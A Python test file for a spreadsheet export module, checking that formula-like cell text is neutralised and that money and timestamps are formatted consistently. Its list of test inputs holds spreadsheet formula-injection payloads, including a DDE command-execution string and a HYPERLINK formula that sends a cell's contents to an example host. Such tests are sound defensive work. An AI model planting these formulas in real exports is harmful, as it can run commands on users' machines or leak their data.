"""Cells: money by its currency, and text that no spreadsheet program takes for a formula."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kpi.exports.cells import as_text, harmless, major
from kpi.exports.declare import Column, Kind, exports
from ledger.domain.money import format_money

RUNS = [
    "=1+1",
    '=HYPERLINK("http://example.com?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    " =1",
    '"=1',
    "'=1",
    " \"' =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1",  # noqa: RUF001 - the wide sign
    "－1",  # noqa: RUF001 - the same
    "+44 20 7946 0000",
    "-5.00",
    "=cmd|' /C calc'!A0",
]
RESTS = ["", "Ann", "a=b", "1-2", "ann+shop@example.com", "O'Hara", "(=1)", "£5", "#1", "日本"]


@pytest.mark.parametrize("text", RUNS)
def test_what_could_be_a_formula_is_quoted(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", RESTS)
def test_what_could_not_is_left_alone(text: str) -> None:
    assert harmless(text) == text


@given(st.text())
def test_no_cell_begins_as_a_formula_and_the_text_can_be_had_back(text: str) -> None:
    cell = harmless(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert cell.removeprefix("'") == text or cell == text


@pytest.mark.parametrize(
    ("amount_minor", "currency", "text"),
    [
        (1250, "gbp", "12.50"),
        (-5, "gbp", "-0.05"),
        (0, "gbp", "0.00"),
        (1250, "jpy", "1250"),
        (0, "jpy", "0"),
        (1250, "kwd", "1.250"),
        (5, "ugx", "0.05"),
        (2**63 - 1, "kwd", "9223372036854775.807"),
    ],
)
def test_money_has_the_digits_of_its_currency(amount_minor: int, currency: str, text: str) -> None:
    assert str(major(amount_minor, currency)) == text


@given(st.integers(-(2**63), 2**63 - 1), st.sampled_from(["gbp", "jpy", "kwd", "isk"]))
def test_money_is_written_as_everywhere(amount_minor: int, currency: str) -> None:
    written = str(major(amount_minor, currency))
    assert f"{written} {currency.upper()}" == format_money(amount_minor, currency)
    assert Decimal(written) == major(amount_minor, currency)


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_a_cell_stays_one_cell(text: str) -> None:
    """Separators, quotes and ends of lines in a text begin no other cell."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow([harmless(text), "next"])
    file.seek(0)
    assert list(csv.reader(file)) == [[harmless(text), "next"]]


def test_every_time_has_the_same_form() -> None:
    """Stripe's times are whole seconds, ours are not: one file, one form."""
    export = replace(exports()[0], columns=(Column("At", Kind.TIME), Column("C", Kind.CURRENCY)))
    times = [datetime(2026, 3, 1, 12, 0, 1, micro, tzinfo=UTC) for micro in (0, 987_654)]
    cells, _ = as_text(export, [(times[0], "gbp"), (times[1], "gbp"), (None, "gbp")])
    assert list(cells) == ["2026-03-01T12:00:01Z", "2026-03-01T12:00:01Z", None]
